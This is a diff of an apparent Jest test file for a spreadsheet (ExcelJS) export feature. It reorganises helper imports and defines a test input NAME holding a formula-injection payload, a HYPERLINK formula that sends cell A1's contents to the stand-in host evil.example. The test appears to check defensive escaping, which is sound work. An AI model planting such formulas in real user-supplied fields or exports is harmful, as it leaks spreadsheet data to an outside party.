@@ -1,7 +1,9 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import ExcelJS from 'exceljs';
 import { bearer, startServer, type TestServer } from './helpers/server.js';
-import { api, binary, guideCase, minutes, session, setClock, ward } from './minutes.fixtures.js';
+import { api, binary } from './helpers/client.js';
+import { setClock } from './helpers/clock.js';
+import { guideCase, minutes, session, ward } from './helpers/minutes-fixtures.js';
 
 /** What a citizen may type that a spreadsheet program would run as a formula. */
 const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")';
